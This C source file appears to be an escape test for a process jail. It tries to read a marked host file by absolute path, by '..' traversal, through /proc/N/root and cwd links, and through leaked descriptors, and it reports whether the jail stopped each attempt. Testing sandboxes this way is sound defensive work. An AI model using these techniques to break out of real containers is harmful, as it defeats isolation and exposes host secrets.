/*
 * read-host — class 1: read a host file from inside the jail.
 *
 *   read-host abs PATH        open PATH as given
 *   read-host dotdot PATH     chdir("..") many times, then open PATH
 *                             relative to where that ends
 *   read-host proc-root PATH  through /proc/{self,1,N}/root and .../cwd
 *                             (needs --proc to mean anything)
 *   read-host fds             any descriptor above 2 is a leak: it came
 *                             from the caller or from jail itself
 *
 * PATH is a host file whose first line holds SECRET_MARK.  Reading it is
 * an escape; any failure to reach it is jail's empty root doing its work.
 */
#include <dirent.h>
#include <sys/stat.h>

#include "attack.h"

static int try_open(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	int hit;

	if (fd < 0) {
		say("open %s: %s", path, strerror(errno));
		return STOPPED;
	}
	hit = has_secret(fd);
	close(fd);
	say("open %s: opened, %s", path, hit ? "the host's secret: ESCAPED" : "not the secret");
	return hit ? ESCAPED : STOPPED;
}

static int dotdot(const char *path)
{
	char rel[4096];
	int r;

	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			say("chdir ..: %s", strerror(errno));
	while (*path == '/')
		path++;
	r = try_open(path);
	/* and the same with the ..s in the path itself */
	rel[0] = '\0';
	for (int i = 0; i < 32; i++)
		strcat(rel, "../");
	if (strlen(rel) + strlen(path) >= sizeof(rel))
		return CANNOT;
	strcat(rel, path);
	return worst(r, try_open(rel));
}

static int proc_root(const char *path)
{
	char p[4096];
	DIR *d = opendir("/proc");
	struct dirent *de;
	int r = STOPPED, seen = 0;
	static const char *const fixed[] = { "self", "thread-self", "1" };

	if (!d) {
		say("/proc: %s (run with --proc)", strerror(errno));
		return CANNOT;
	}
	for (size_t i = 0; i < sizeof(fixed) / sizeof(fixed[0]); i++) {
		snprintf(p, sizeof(p), "/proc/%s/root%s", fixed[i], path);
		r = worst(r, try_open(p));
	}
	while ((de = readdir(d))) {
		if (de->d_name[0] < '0' || de->d_name[0] > '9')
			continue;
		seen++;
		snprintf(p, sizeof(p), "/proc/%s/root%s", de->d_name, path);
		r = worst(r, try_open(p));
		snprintf(p, sizeof(p), "/proc/%s/cwd/..%s", de->d_name, path);
		r = worst(r, try_open(p));
	}
	closedir(d);
	say("%d processes visible in /proc", seen);
	return r;
}

static int fds(void)
{
	int r = STOPPED;

	for (int fd = 3; fd < 1024; fd++) {
		struct stat st;
		char link[64], target[256] = "?";
		ssize_t n;

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		n = readlink(link, target, sizeof(target) - 1);
		if (n >= 0)
			target[n] = '\0';
		if (fstat(fd, &st) == 0)
			say("fd %d is open: mode 0%o, %s: ESCAPED", fd, (unsigned)st.st_mode, target);
		else
			say("fd %d is open (%s): ESCAPED", fd, target);
		r = ESCAPED;
	}
	if (r == STOPPED)
		say("no descriptor above 2: stopped");
	return r;
}

int main(int argc, char **argv)
{
	attack_name = "read-host";
	if (argc == 2 && !strcmp(argv[1], "fds"))
		return fds();
	if (argc != 3)
		usage("abs|dotdot|proc-root PATH, or fds");
	if (!strcmp(argv[1], "abs"))
		return try_open(argv[2]);
	if (!strcmp(argv[1], "dotdot"))
		return dotdot(argv[2]);
	if (!strcmp(argv[1], "proc-root"))
		return proc_root(argv[2]);
	usage("abs|dotdot|proc-root PATH, or fds");
	return CANNOT;
}
